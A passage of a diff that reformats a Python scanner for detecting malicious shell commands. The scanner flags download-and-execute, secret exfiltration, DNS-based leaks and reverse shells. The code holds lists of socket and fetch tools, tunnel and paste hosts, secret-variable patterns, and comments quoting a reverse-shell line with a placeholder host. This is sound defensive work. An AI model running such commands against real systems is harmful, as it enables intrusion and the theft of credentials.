@@ -69,64 +69,310 @@ RULE_SUB_NETWORK = "EXF013"
 RULE_PERSISTENCE = "PER011"
 RULE_SECRET_PATH = "SNP015"
 RULE_TRUNCATED = "UNV030"
-CATEGORY = {RULE_DOWNLOAD_EXEC: "supply-chain", RULE_REMOTE_PACKAGE: "supply-chain",
-            RULE_SEND_SECRET: "data-exfiltration", RULE_UPLOAD: "data-exfiltration",
-            RULE_SUB_NETWORK: "data-exfiltration", RULE_PERSISTENCE: "persistence",
-            RULE_SECRET_PATH: "agent-snooping", RULE_TRUNCATED: "internal"}
+CATEGORY = {
+    RULE_DOWNLOAD_EXEC: "supply-chain",
+    RULE_REMOTE_PACKAGE: "supply-chain",
+    RULE_SEND_SECRET: "data-exfiltration",
+    RULE_UPLOAD: "data-exfiltration",
+    RULE_SUB_NETWORK: "data-exfiltration",
+    RULE_PERSISTENCE: "persistence",
+    RULE_SECRET_PATH: "agent-snooping",
+    RULE_TRUNCATED: "internal",
+}
 COMBO = {"data-exfiltration": "egress", "agent-snooping": "secrets"}
 
 AUTO_ORIGINS = frozenset({"hook", "bang", "config"})
 """Origins whose commands run without the model deciding."""
 
-SHELL_LANGS = frozenset({"sh", "bash", "zsh", "shell", "console", "shell-session", "shellsession", "ksh", "fish",
-                         "terminal", "cmd-line", "bash-session", "sh-session", "dash", "ash", "command", "cli"})
+SHELL_LANGS = frozenset(
+    {
+        "sh",
+        "bash",
+        "zsh",
+        "shell",
+        "console",
+        "shell-session",
+        "shellsession",
+        "ksh",
+        "fish",
+        "terminal",
+        "cmd-line",
+        "bash-session",
+        "sh-session",
+        "dash",
+        "ash",
+        "command",
+        "cli",
+    }
+)
 PLAIN_LANGS = frozenset({"", "text", "txt", "plain", "plaintext", "none", "output", "log"})
 PY_LANGS = frozenset({"python", "py", "python3", "pycon"})
 JS_LANGS = frozenset({"js", "javascript", "node", "mjs", "cjs", "ts", "typescript"})
 
-FETCHERS = frozenset({"curl", "wget", "fetch", "http", "https", "xh", "xhs", "aria2c", "lwp-request", "get", "lynx",
-                      "httpie", "curlie", "wget2"})
+FETCHERS = frozenset(
+    {
+        "curl",
+        "wget",
+        "fetch",
+        "http",
+        "https",
+        "xh",
+        "xhs",
+        "aria2c",
+        "lwp-request",
+        "get",
+        "lynx",
+        "httpie",
+        "curlie",
+        "wget2",
+    }
+)
 SOCKETS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl"})
-DNS_TOOLS = frozenset({"dig", "host", "nslookup", "drill", "ping", "ping6", "traceroute", "tracepath", "whois",
-                       "resolvectl", "getent", "kdig", "delv"})
-SENDERS = FETCHERS | SOCKETS | frozenset({"scp", "rsync", "sftp", "ftp", "tftp", "mail", "mailx", "sendmail",
-                                          "gh", "pastebinit", "sshpass"})
+DNS_TOOLS = frozenset(
+    {
+        "dig",
+        "host",
+        "nslookup",
+        "drill",
+        "ping",
+        "ping6",
+        "traceroute",
+        "tracepath",
+        "whois",
+        "resolvectl",
+        "getent",
+        "kdig",
+        "delv",
+    }
+)
+SENDERS = (
+    FETCHERS
+    | SOCKETS
+    | frozenset({"scp", "rsync", "sftp", "ftp", "tftp", "mail", "mailx", "sendmail", "gh", "pastebinit", "sshpass"})
+)
 EXEC_WORDS = frozenset({"eval", "source", "."})
 ENV_DUMPS = frozenset({"env", "printenv", "set", "export", "declare", "compgen", "typeset"})
 RECON = frozenset({"whoami", "hostname", "id", "groups", "ifconfig", "users", "w", "last", "netstat"})
 """Commands whose output identifies the user or machine (``uname``/``arch`` are left out: release
 download URLs use them to pick a platform build)."""
-DECODERS = frozenset({"base64", "base32", "xxd", "gunzip", "zcat", "uudecode", "rev", "openssl", "gzip", "bunzip2",
-                      "xz", "unxz", "tr"})
-VERIFIERS = frozenset({"sha256sum", "sha512sum", "sha1sum", "shasum", "b2sum", "md5sum", "gpg", "gpgv", "cosign",
-                       "minisign", "signify", "slsa-verifier", "openssl"})
-READ_LIKE_SKIP = frozenset({"chmod", "chown", "chgrp", "ssh-add", "ssh-keygen", "ssh", "ls", "stat", "test", "[",
-                            "[[", "mkdir", "rm", "touch", "vim", "vi", "nano", "emacs", "code", "open", "export",
-                            "source", ".", "docker", "kubectl", "aws", "gcloud", "az", "git", "gh", "gpg", "npm",
-                            "pip", "ln", "echo", "cd", "mv", "unset", "direnv", "dotenv", "helm", "terraform",
-                            "ssh-copy-id", "sftp", "file", "wc", "du", "find", "realpath", "dirname", "basename",
-                            "printf", "trash", "shred", "setfacl", "icacls", "attrib", "sops", "age", "op",
-                            "vault", "doppler", "infisical", "pnpm", "yarn", "cargo", "gem", "twine", "poetry",
-                            "uv", "kubectx", "minikube", "kind", "k3d", "eksctl", "gsutil", "bq", "code-insiders",
-                            "cursor", "subl", "mate", "xdg-open", "true", "false", "exit", "return", "alias"})
+DECODERS = frozenset(
+    {"base64", "base32", "xxd", "gunzip", "zcat", "uudecode", "rev", "openssl", "gzip", "bunzip2", "xz", "unxz", "tr"}
+)
+VERIFIERS = frozenset(
+    {
+        "sha256sum",
+        "sha512sum",
+        "sha1sum",
+        "shasum",
+        "b2sum",
+        "md5sum",
+        "gpg",
+        "gpgv",
+        "cosign",
+        "minisign",
+        "signify",
+        "slsa-verifier",
+        "openssl",
+    }
+)
+READ_LIKE_SKIP = frozenset(
+    {
+        "chmod",
+        "chown",
+        "chgrp",
+        "ssh-add",
+        "ssh-keygen",
+        "ssh",
+        "ls",
+        "stat",
+        "test",
+        "[",
+        "[[",
+        "mkdir",
+        "rm",
+        "touch",
+        "vim",
+        "vi",
+        "nano",
+        "emacs",
+        "code",
+        "open",
+        "export",
+        "source",
+        ".",
+        "docker",
+        "kubectl",
+        "aws",
+        "gcloud",
+        "az",
+        "git",
+        "gh",
+        "gpg",
+        "npm",
+        "pip",
+        "ln",
+        "echo",
+        "cd",
+        "mv",
+        "unset",
+        "direnv",
+        "dotenv",
+        "helm",
+        "terraform",
+        "ssh-copy-id",
+        "sftp",
+        "file",
+        "wc",
+        "du",
+        "find",
+        "realpath",
+        "dirname",
+        "basename",
+        "printf",
+        "trash",
+        "shred",
+        "setfacl",
+        "icacls",
+        "attrib",
+        "sops",
+        "age",
+        "op",
+        "vault",
+        "doppler",
+        "infisical",
+        "pnpm",
+        "yarn",
+        "cargo",
+        "gem",
+        "twine",
+        "poetry",
+        "uv",
+        "kubectx",
+        "minikube",
+        "kind",
+        "k3d",
+        "eksctl",
+        "gsutil",
+        "bq",
+        "code-insiders",
+        "cursor",
+        "subl",
+        "mate",
+        "xdg-open",
+        "true",
+        "false",
+        "exit",
+        "return",
+        "alias",
+    }
+)
 KNOWN_COMMANDS = frozenset(
-    set(FETCHERS | SOCKETS | DNS_TOOLS | SENDERS | EXEC_WORDS | shell.SHELLS | set(shell.INTERPRETERS)
-        | shell.WRAPPERS | DECODERS | VERIFIERS)
-    | {"git", "npm", "npx", "pnpm", "yarn", "bunx", "uvx", "pipx", "pip", "pip3", "uv", "cat", "cp", "mv", "chmod",
-       "crontab", "ln", "tee", "echo", "printf", "mkdir", "rm", "cd", "ssh", "tar", "zip", "unzip", "sed", "awk",
-       "docker", "kubectl", "aws", "gcloud", "az", "systemctl", "launchctl", "defaults", "security", "install",
-       "dd", "make", "brew", "apt", "apt-get", "yum", "dnf", "apk", "go", "cargo", "gem", "sudo", "export",
-       "powershell", "pwsh", "iex", "irm", "iwr", "schtasks", "reg", "at", "head", "tail", "less", "grep", "jq",
-       "touch", "ls", "find", "xargs", "claude", "codex", "gemini", "deno", "bun", "./install.sh", "sh"})
+    set(
+        FETCHERS
+        | SOCKETS
+        | DNS_TOOLS
+        | SENDERS
+        | EXEC_WORDS
+        | shell.SHELLS
+        | set(shell.INTERPRETERS)
+        | shell.WRAPPERS
+        | DECODERS
+        | VERIFIERS
+    )
+    | {
+        "git",
+        "npm",
+        "npx",
+        "pnpm",
+        "yarn",
+        "bunx",
+        "uvx",
+        "pipx",
+        "pip",
+        "pip3",
+        "uv",
+        "cat",
+        "cp",
+        "mv",
+        "chmod",
+        "crontab",
+        "ln",
+        "tee",
+        "echo",
+        "printf",
+        "mkdir",
+        "rm",
+        "cd",
+        "ssh",
+        "tar",
+        "zip",
+        "unzip",
+        "sed",
+        "awk",
+        "docker",
+        "kubectl",
+        "aws",
+        "gcloud",
+        "az",
+        "systemctl",
+        "launchctl",
+        "defaults",
+        "security",
+        "install",
+        "dd",
+        "make",
+        "brew",
+        "apt",
+        "apt-get",
+        "yum",
+        "dnf",
+        "apk",
+        "go",
+        "cargo",
+        "gem",
+        "sudo",
+        "export",
+        "powershell",
+        "pwsh",
+        "iex",
+        "irm",
+        "iwr",
+        "schtasks",
+        "reg",
+        "at",
+        "head",
+        "tail",
+        "less",
+        "grep",
+        "jq",
+        "touch",
+        "ls",
+        "find",
+        "xargs",
+        "claude",
+        "codex",
+        "gemini",
+        "deno",
+        "bun",
+        "./install.sh",
+        "sh",
+    }
+)
 
 _URL = re.compile(r"(?i)\b(?:https?|ftp)://[^\s'\"<>`|;)]+")
 _RAW_IP_URL = re.compile(r"(?i)\b(?:https?|ftp)://\d{1,3}(?:\.\d{1,3}){3}\b")
-_LOCAL = re.compile(r"(?i)^(?:[a-z]+://)?(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[::1\]|::1|host\.docker\.internal)(?:[:/]|$)")
-_SHADY_HOST = re.compile(r"(?i)\b(?:bit\.ly|tinyurl\.com|t\.co|is\.gd|goo\.gl|pastebin\.com|paste\.ee|hastebin|"
-                         r"transfer\.sh|ngrok(?:-free)?\.(?:io|app)|trycloudflare\.com|webhook\.site|requestbin|"
-                         r"pipedream\.net|interact\.sh|oast\.|burpcollaborator|0x0\.st|termbin\.com|ix\.io)")
-_SECRET_VAR = re.compile(r"(?i)\$\{?([A-Z_][A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|PASS|CREDENTIALS?|AUTH|"
-                         r"COOKIE|SESSION|PAT|PRIVATE)[A-Z0-9_]*)\}?")
+_LOCAL = re.compile(
+    r"(?i)^(?:[a-z]+://)?(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[::1\]|::1|host\.docker\.internal)(?:[:/]|$)"
+)
+_SHADY_HOST = re.compile(
+    r"(?i)\b(?:bit\.ly|tinyurl\.com|t\.co|is\.gd|goo\.gl|pastebin\.com|paste\.ee|hastebin|"
+    r"transfer\.sh|ngrok(?:-free)?\.(?:io|app)|trycloudflare\.com|webhook\.site|requestbin|"
+    r"pipedream\.net|interact\.sh|oast\.|burpcollaborator|0x0\.st|termbin\.com|ix\.io)"
+)
+_SECRET_VAR = re.compile(
+    r"(?i)\$\{?([A-Z_][A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|PASS|CREDENTIALS?|AUTH|"
+    r"COOKIE|SESSION|PAT|PRIVATE)[A-Z0-9_]*)\}?"
+)
 _SUB_IN_TEXT = re.compile(r"\$\(|`")
 
 
@@ -192,16 +438,23 @@ def load_locations(name: str) -> tuple[Location, ...]:
     for i, loc in enumerate(data.get("location", [])):
         if not isinstance(loc.get("id"), str) or not isinstance(loc.get("paths"), list):
             raise ValueError(f"{path}: location[{i}] needs an 'id' and a 'paths' list")
-        out.append(Location(loc["id"], str(loc.get("label", loc["id"])),
-                            tuple(_compile_path(p) for p in loc["paths"]),
-                            tuple(_compile_path(p, bare_name=True) for p in loc.get("except", [])),
-                            str(loc.get("source", ""))))
+        out.append(
+            Location(
+                loc["id"],
+                str(loc.get("label", loc["id"])),
+                tuple(_compile_path(p) for p in loc["paths"]),
+                tuple(_compile_path(p, bare_name=True) for p in loc.get("except", [])),
+                str(loc.get("source", "")),
+            )
+        )
     return tuple(out)
 
 
-_HOME = re.compile(r"(?i)^(?:~[A-Za-z0-9_.-]*|\$HOME|\$\{HOME\}|\$\{?USERPROFILE\}?|%USERPROFILE%|%HOMEPATH%|"
-                   r"\$env:USERPROFILE|\$env:HOME|\$\{os\.homedir\(\)\}|\$\{homedir\}|[A-Za-z]:/Users/[^/]+|"
-                   r"/home/[^/]+|/Users/[^/]+|/root)(?=/|$)")
+_HOME = re.compile(
+    r"(?i)^(?:~[A-Za-z0-9_.-]*|\$HOME|\$\{HOME\}|\$\{?USERPROFILE\}?|%USERPROFILE%|%HOMEPATH%|"
+    r"\$env:USERPROFILE|\$env:HOME|\$\{os\.homedir\(\)\}|\$\{homedir\}|[A-Za-z]:/Users/[^/]+|"
+    r"/home/[^/]+|/Users/[^/]+|/root)(?=/|$)"
+)
 _APPDATA = re.compile(r"(?i)^(?:%APPDATA%|\$env:APPDATA|\$APPDATA)")
 _LOCALAPPDATA = re.compile(r"(?i)^(?:%LOCALAPPDATA%|\$env:LOCALAPPDATA)")
 _GLOB_CHARS = re.compile(r"[*?\[]")
@@ -350,8 +603,12 @@ def _strong_source(urls: Sequence[str], args: Sequence[Word]) -> str | None:
             return "from a link shortener, paste or tunnel host"
     for a in args:
         if a.text in ("-k", "--insecure", "--no-check-certificate") or (
-                a.text.startswith("-") and not a.text.startswith("--") and "k" in a.text[1:] and len(a.text) <= 6
-                and a.text[1:].isalpha()):
+            a.text.startswith("-")
+            and not a.text.startswith("--")
+            and "k" in a.text[1:]
+            and len(a.text) <= 6
+            and a.text[1:].isalpha()
+        ):
             return "with TLS certificate checks off"
     return None
 
@@ -408,14 +665,16 @@ def _downloaded_files(cmd: Command) -> list[str]:
     for k, t in enumerate(texts):
         nxt = texts[k + 1] if k + 1 < len(texts) else ""
         if name in ("curl", "curlie"):
-            if t in ("-o", "--output") or (t.startswith("-") and not t.startswith("--") and t[1:].isalpha()
-                                           and t.endswith("o")):
+            if t in ("-o", "--output") or (
+                t.startswith("-") and not t.startswith("--") and t[1:].isalpha() and t.endswith("o")
+            ):
                 if nxt and nxt != "-":
                     out.append(nxt)
             elif t.startswith("--output="):
                 out.append(t[9:])
-            elif t in ("-O", "--remote-name") or (t.startswith("-") and not t.startswith("--") and t[1:].isalpha()
-                                                   and "O" in t[1:]):
+            elif t in ("-O", "--remote-name") or (
+                t.startswith("-") and not t.startswith("--") and t[1:].isalpha() and "O" in t[1:]
+            ):
                 out.extend(u.rstrip("/").rsplit("/", 1)[-1].split("?")[0] for u in urls)
         elif name in ("wget", "wget2"):
             if t in ("-O", "--output-document") or re.fullmatch(r"-[a-zA-Z]*O", t):
@@ -424,7 +683,7 @@ def _downloaded_files(cmd: Command) -> list[str]:
             elif t.startswith("--output-document="):
                 out.append(t.split("=", 1)[1])
             elif re.fullmatch(r"-[a-zA-Z]*O[^-].*", t):
-                out.append(t[t.index("O") + 1:])
+                out.append(t[t.index("O") + 1 :])
     if name in ("wget", "wget2") and not out and not _fetch_to_stdout(cmd):
         out.extend(u.rstrip("/").rsplit("/", 1)[-1].split("?")[0] for u in urls)
     for r in cmd.redirects:
@@ -475,8 +734,9 @@ def _reads_stdin_program(cmd: Command) -> bool:
     if "xargs" in wrappers and (name in shell.SHELLS or name in shell.INTERPRETERS or name in EXEC_WORDS):
         return True
     if name in EXEC_WORDS:
-        return any(a.text in ("/dev/stdin", "-", "/proc/self/fd/0") or "$(cat)" in a.text or "`cat`" in a.text
-                   for a in args)
+        return any(
+            a.text in ("/dev/stdin", "-", "/proc/self/fd/0") or "$(cat)" in a.text or "`cat`" in a.text for a in args
+        )
     if name in shell.SHELLS:
         if _has_flag(args, "c"):
             return any("$(cat)" in a.text or "$(cat -)" in a.text for a in args)
@@ -518,8 +778,9 @@ def _script_fetches(s: Script) -> Command | None:
 def _decodes(stages: Sequence[Command]) -> bool:
     for c in stages:
         name, args, _w = c.effective()
-        if name in ("base64", "base32") and any(a.text in ("-d", "-D", "--decode") or a.text.startswith("-d")
-                                                for a in args):
+        if name in ("base64", "base32") and any(
+            a.text in ("-d", "-D", "--decode") or a.text.startswith("-d") for a in args
+        ):
             return True
         if name in ("xxd",) and any("r" in a.text for a in args if a.text.startswith("-")):
             return True
@@ -544,9 +805,14 @@ def judge_script(script: Script, origin: str) -> list[Hit]:
     for s in scripts:
         _download_exec(j, s)
         if s.truncated is not None:
-            j.add(RULE_TRUNCATED, Severity.WARNING, s.truncated, s.truncated + 1,
-                  f"shell nested deeper than {shell.MAX_DEPTH} levels (sh -c / eval / $(…)): the innermost "
-                  "commands were not parsed")
+            j.add(
+                RULE_TRUNCATED,
+                Severity.WARNING,
+                s.truncated,
+                s.truncated + 1,
+                f"shell nested deeper than {shell.MAX_DEPTH} levels (sh -c / eval / $(…)): the innermost "
+                "commands were not parsed",
+            )
     for s in scripts:
         for p in s.pipelines:
             for k, st in enumerate(p.stages[1:], 1):
@@ -596,18 +862,28 @@ def _download_exec(j: _Judge, s: Script) -> None:
             for later in stages[i + 1 :]:  # `curl … | tee f`, `curl … | gunzip > f`: the file holds the download
                 if later.effective()[0] == "tee":
                     downloads.extend((w.text, f, pi) for w in later.effective()[1] if not w.text.startswith("-"))
-                downloads.extend((r.target.text, f, pi) for r in later.redirects
-                                 if r.writes and r.target is not None and r.target.text != "/dev/null")
+                downloads.extend(
+                    (r.target.text, f, pi)
+                    for r in later.redirects
+                    if r.writes and r.target is not None and r.target.text != "/dev/null"
+                )
             for k in range(i + 1, len(stages)):
                 ex = stages[k]
-                if _reads_stdin_program(ex) or (ex.body is not None and any(_reads_stdin_program(c)
-                                                                            for c in ex.body.commands())):
+                if _reads_stdin_program(ex) or (
+                    ex.body is not None and any(_reads_stdin_program(c) for c in ex.body.commands())
+                ):
                     why = _strong_source(_urls(f), f.effective()[1])
                     if _decodes(stages[i + 1 : k]):
                         why = why or "decoded before it runs"
                     via = " | ".join(c.effective()[0] or "…" for c in stages[i + 1 : k + 1])
-                    j.add(RULE_DOWNLOAD_EXEC, _sev(j.auto, why is not None), p.start, p.end,
-                          _exec_message(f"piped into {via}", f, why), form="pipe")
+                    j.add(
+                        RULE_DOWNLOAD_EXEC,
+                        _sev(j.auto, why is not None),
+                        p.start,
+                        p.end,
+                        _exec_message(f"piped into {via}", f, why),
+                        form="pipe",
+                    )
                     break
         _decoded_payload(j, stages, s.depth)
         # assignments from a fetch taint the variable
@@ -636,8 +912,14 @@ def _download_exec(j: _Judge, s: Script) -> None:
                     if verified:
                         why = (why + "; " if why else "") + "checksum or signature verified before running"
                     first = s.pipelines[dpi]
-                    j.add(RULE_DOWNLOAD_EXEC, sev, min(first.start, st.start), max(st.end, p.end),
-                          _exec_message(f"saved as {fn} then run", f, why), form="file")
+                    j.add(
+                        RULE_DOWNLOAD_EXEC,
+                        sev,
+                        min(first.start, st.start),
+                        max(st.end, p.end),
+                        _exec_message(f"saved as {fn} then run", f, why),
+                        form="file",
+                    )
                     break
     # interpreters given a URL as their program (deno run https://…)
     for p in s.pipelines:
@@ -647,9 +929,14 @@ def _download_exec(j: _Judge, s: Script) -> None:
                 op = _script_operand([a for a in args if a.text != "run"], shell.INTERPRETERS.get(name))
                 if op is not None and _URL.match(op.text):
                     why = _strong_source([op.text], args)
-                    j.add(RULE_DOWNLOAD_EXEC, _sev(j.auto, why is not None), st.start, st.end,
-                          f"Runs a script straight from a URL: {_clip(op.text, 70)}" + (f" ({why})" if why else ""),
-                          form="url-operand")
+                    j.add(
+                        RULE_DOWNLOAD_EXEC,
+                        _sev(j.auto, why is not None),
+                        st.start,
+                        st.end,
+                        f"Runs a script straight from a URL: {_clip(op.text, 70)}" + (f" ({why})" if why else ""),
+                        form="url-operand",
+                    )
 
 
 def _decode_literal(data: str, stages: Sequence[Command]) -> str | None:
@@ -709,8 +996,9 @@ def _is_verifier(c: Command) -> bool:
     name, args, _w = c.effective()
     texts = [a.text for a in args]
     if name in ("sha256sum", "sha512sum", "sha1sum", "b2sum", "md5sum", "shasum"):
-        return any(t in ("-c", "--check") or (t.startswith("-") and "c" in t[1:] and not t.startswith("--"))
-                   for t in texts)
+        return any(
+            t in ("-c", "--check") or (t.startswith("-") and "c" in t[1:] and not t.startswith("--")) for t in texts
+        )
     if name in ("gpg", "gpgv"):
         return name == "gpgv" or "--verify" in texts
     if name in ("cosign", "slsa-verifier"):
@@ -791,8 +1079,14 @@ def _exec_substitution(j: _Judge, st: Command, tainted: dict[str, Command]) -> N
                     break
         if f is not None:
             why = _strong_source(_urls(f), f.effective()[1])
-            j.add(RULE_DOWNLOAD_EXEC, _sev(j.auto, why is not None), st.start, st.end, _exec_message(how, f, why),
-                  form="substitution")
+            j.add(
+                RULE_DOWNLOAD_EXEC,
+                _sev(j.auto, why is not None),
+                st.start,
+                st.end,
+                _exec_message(how, f, why),
+                form="substitution",
+            )
             return
 
 
@@ -806,8 +1100,10 @@ def _flag_word(args: Sequence[Word], letter: str) -> Word | None:
     return None
 
 
-_REMOTE_SPEC = re.compile(r"(?i)^(?:git\+|git://|github:|gitlab:|bitbucket:|gist:|https?://|file:|ssh://|"
-                          r"[\w.-]+/[\w.-]+(?:#\S*)?$)")
+_REMOTE_SPEC = re.compile(
+    r"(?i)^(?:git\+|git://|github:|gitlab:|bitbucket:|gist:|https?://|file:|ssh://|"
+    r"[\w.-]+/[\w.-]+(?:#\S*)?$)"
+)
 
 
 def _remote_package(j: _Judge, c: Command) -> None:
@@ -846,9 +1142,14 @@ def _remote_package(j: _Judge, c: Command) -> None:
         return  # a relative path for the Python tools
     yes = any(t in ("-y", "--yes") for t in texts)
     why = _strong_source([value], ())
-    j.add(RULE_REMOTE_PACKAGE, _sev(j.auto, why is not None), c.start, c.end,
-          f"Runs a package fetched from a remote or git source{' without a prompt' if yes else ''}: "
-          f"{_clip(value, 70)}" + (f" ({why})" if why else ""))
+    j.add(
+        RULE_REMOTE_PACKAGE,
+        _sev(j.auto, why is not None),
+        c.start,
+        c.end,
+        f"Runs a package fetched from a remote or git source{' without a prompt' if yes else ''}: "
+        f"{_clip(value, 70)}" + (f" ({why})" if why else ""),
+    )
 
 
 def _destination(cmd: Command) -> str | None:
@@ -876,13 +1177,52 @@ def _is_local(dest: str | None) -> bool:
     return bool(_LOCAL.match(d))
 
 
-_HARMLESS_IN_URL = frozenset({"uname", "arch", "date", "dpkg", "lsb_release", "sw_vers", "nproc", "basename",
-                              "dirname", "echo", "printf", "tr", "sed", "cut", "jq", "grep", "head", "tail", "awk",
-                              "python", "python3", "node", "go", "rustc", "getconf", "dpkg-architecture", "xcrun"})
+_HARMLESS_IN_URL = frozenset(
+    {
+        "uname",
+        "arch",
+        "date",
+        "dpkg",
+        "lsb_release",
+        "sw_vers",
+        "nproc",
+        "basename",
+        "dirname",
+        "echo",
+        "printf",
+        "tr",
+        "sed",
+        "cut",
+        "jq",
+        "grep",
+        "head",
+        "tail",
+        "awk",
+        "python",
+        "python3",
+        "node",
+        "go",
+        "rustc",
+        "getconf",
+        "dpkg-architecture",
+        "xcrun",
+    }
+)
 """Commands whose output in a URL path picks a platform or version build (not data)."""
 
-_SENDING_OPTS_CURL = {"-d", "--data", "--data-binary", "--data-urlencode", "--data-ascii", "-F", "--form",
-                      "--form-string", "-T", "--upload-file", "--json"}
+_SENDING_OPTS_CURL = {
+    "-d",
+    "--data",
+    "--data-binary",
+    "--data-urlencode",
+    "--data-ascii",
+    "-F",
+    "--form",
+    "--form-string",
+    "-T",
+    "--upload-file",
+    "--json",
+}
 
 
 def _sources_of(script_or_cmds) -> tuple[list[str], list[str]]:
@@ -892,9 +1232,13 @@ def _sources_of(script_or_cmds) -> tuple[list[str], list[str]]:
     other: list[str] = []
     for c in script_or_cmds:
         name, args, _w = c.effective()
-        if name in ENV_DUMPS and (not args or name in ("env", "printenv") and all(a.text.startswith("-") for a in args)
-                                  or name in ("export", "declare", "typeset") and any(a.text in ("-p", "-x")
-                                                                                      for a in args)):
+        if name in ENV_DUMPS and (
+            not args
+            or name in ("env", "printenv")
+            and all(a.text.startswith("-") for a in args)
+            or name in ("export", "declare", "typeset")
+            and any(a.text in ("-p", "-x") for a in args)
+        ):
             secrets.append("the environment")
         for w in list(args) + [r.target for r in c.redirects if r.reads and r.target is not None]:
             loc = secret_in(w.text)
@@ -917,19 +1261,28 @@ def _network(j: _Judge, c: Command) -> None:
                 continue
             if a.subs:
                 secrets, other = _sources_of(cmd for s in a.subs for cmd in s.commands())
-                j.add(RULE_SUB_NETWORK, Severity.ERROR, c.start, c.end,
-                      f"Command output sent in a DNS/network lookup ({name} {_clip(a.raw, 50)}): the host name "
-                      "carries data to whoever runs its DNS" + (f"; it includes {', '.join(secrets)}" if secrets
-                                                                else ""))
+                j.add(
+                    RULE_SUB_NETWORK,
+                    Severity.ERROR,
+                    c.start,
+                    c.end,
+                    f"Command output sent in a DNS/network lookup ({name} {_clip(a.raw, 50)}): the host name "
+                    "carries data to whoever runs its DNS" + (f"; it includes {', '.join(secrets)}" if secrets else ""),
+                )
                 return
         return
     for r in c.redirects:  # `bash -i >& /dev/tcp/host/port 0>&1`, `cat f > /dev/udp/host/53`
         t = r.target.text if r.target is not None else ""
         if t.startswith(("/dev/tcp/", "/dev/udp/")) and not _is_local(t[9:]):
             loc = secret_in(t)
-            j.add(RULE_UPLOAD, Severity.ERROR, c.start, c.end,
-                  f"Connects {name or 'the shell'}'s input/output to the network socket {_clip(t, 50)}"
-                  + (" (an interactive shell: a reverse shell)" if name in shell.SHELLS else ""))
+            j.add(
+                RULE_UPLOAD,
+                Severity.ERROR,
+                c.start,
+                c.end,
+                f"Connects {name or 'the shell'}'s input/output to the network socket {_clip(t, 50)}"
+                + (" (an interactive shell: a reverse shell)" if name in shell.SHELLS else ""),
+            )
             return
     if name not in SENDERS:
         return
@@ -953,8 +1306,11 @@ def _network(j: _Judge, c: Command) -> None:
                         stdin_sent = True
                     else:
                         sent.append((v, val))
-                elif (v.startswith("@") or (opt in ("-F", "--form") and re.match(r"^[^=]*=[@<]", v))
-                      or (opt == "--data-urlencode" and re.match(r"^[^=@]*@", v))):
+                elif (
+                    v.startswith("@")
+                    or (opt in ("-F", "--form") and re.match(r"^[^=]*=[@<]", v))
+                    or (opt == "--data-urlencode" and re.match(r"^[^=@]*@", v))
+                ):
                     f = re.split(r"[@<]", v, maxsplit=1)[1].split(";", 1)[0]
                     if f in ("-", "/dev/stdin"):
                         stdin_sent = True
@@ -990,11 +1346,31 @@ def _network(j: _Judge, c: Command) -> None:
     # URL carrying a substitution or a secret variable
     for k, a in enumerate(args):
         prev = args[k - 1].text if k else ""
-        option_value = prev.startswith("-") and not prev.startswith("--") and len(prev) == 2 or prev in (
-            "--header", "--data", "--data-raw", "--data-binary", "--user", "--cookie", "--form", "--json",
-            "--user-agent", "--referer", "--output", "--upload-file", "--proxy", "--request")
-        url_like = bool(_URL.match(a.text)) or (not option_value and not a.text.startswith("-")
-                                                and bool(re.match(r"^[^\s/]*[.:/]", a.text)))
+        option_value = (
+            prev.startswith("-")
+            and not prev.startswith("--")
+            and len(prev) == 2
+            or prev
+            in (
+                "--header",
+                "--data",
+                "--data-raw",
+                "--data-binary",
+                "--user",
+                "--cookie",
+                "--form",
+                "--json",
+                "--user-agent",
+                "--referer",
+                "--output",
+                "--upload-file",
+                "--proxy",
+                "--request",
+            )
+        )
+        url_like = bool(_URL.match(a.text)) or (
+            not option_value and not a.text.startswith("-") and bool(re.match(r"^[^\s/]*[.:/]", a.text))
+        )
         if url_like and (a.subs or _SECRET_VAR.search(a.raw)):
             if a.subs and not local:
                 inner = [cmd for s in a.subs for cmd in s.commands()]
@@ -1005,12 +1381,22 @@ def _network(j: _Judge, c: Command) -> None:
                 in_host = "$(" in host or "`" in host
                 strong = bool(secrets) or in_host or bool(other)
                 what = ", ".join(secrets + other) or "command output"
-                j.add(RULE_SUB_NETWORK, Severity.ERROR if (strong or j.auto) else Severity.WARNING, c.start, c.end,
-                      f"Command output ({_clip(what, 40)}) sent in a request URL: {_clip(a.raw, 60)}")
+                j.add(
+                    RULE_SUB_NETWORK,
+                    Severity.ERROR if (strong or j.auto) else Severity.WARNING,
+                    c.start,
+                    c.end,
+                    f"Command output ({_clip(what, 40)}) sent in a request URL: {_clip(a.raw, 60)}",
+                )
             elif _SECRET_VAR.search(a.raw) and not local and _URL.match(a.text):
                 m = _SECRET_VAR.search(a.raw)
-                j.add(RULE_SEND_SECRET, _sev(j.auto, False), c.start, c.end,
-                      f"Sends ${m.group(1)} in a request URL to {_clip(dest or a.text, 60)}")
+                j.add(
+                    RULE_SEND_SECRET,
+                    _sev(j.auto, False),
+                    c.start,
+                    c.end,
+                    f"Sends ${m.group(1)} in a request URL to {_clip(dest or a.text, 60)}",
+                )
     for desc, w in sent:
         if desc in ("/dev/null", "/dev/zero", "-"):
             continue
@@ -1027,14 +1413,29 @@ def _network(j: _Judge, c: Command) -> None:
         if m:
             secrets.append(f"${m.group(1)}")
         if var_only:  # `-d "token=$API_TOKEN"` is how many APIs take their own key: a warning
-            j.add(RULE_SEND_SECRET, Severity.WARNING if not j.auto else Severity.ERROR, c.start, c.end,
-                  f"Sends {secrets[0]} to {_clip(dest or 'a remote host', 60)} ({name})")
+            j.add(
+                RULE_SEND_SECRET,
+                Severity.WARNING if not j.auto else Severity.ERROR,
+                c.start,
+                c.end,
+                f"Sends {secrets[0]} to {_clip(dest or 'a remote host', 60)} ({name})",
+            )
         elif secrets:
-            j.add(RULE_SEND_SECRET, Severity.WARNING if local else Severity.ERROR, c.start, c.end,
-                  f"Sends {', '.join(dict.fromkeys(secrets))} to {_clip(dest or 'a remote host', 60)} ({name})")
+            j.add(
+                RULE_SEND_SECRET,
+                Severity.WARNING if local else Severity.ERROR,
+                c.start,
+                c.end,
+                f"Sends {', '.join(dict.fromkeys(secrets))} to {_clip(dest or 'a remote host', 60)} ({name})",
+            )
         elif desc and not local:
-            j.add(RULE_UPLOAD, _sev(j.auto, False), c.start, c.end,
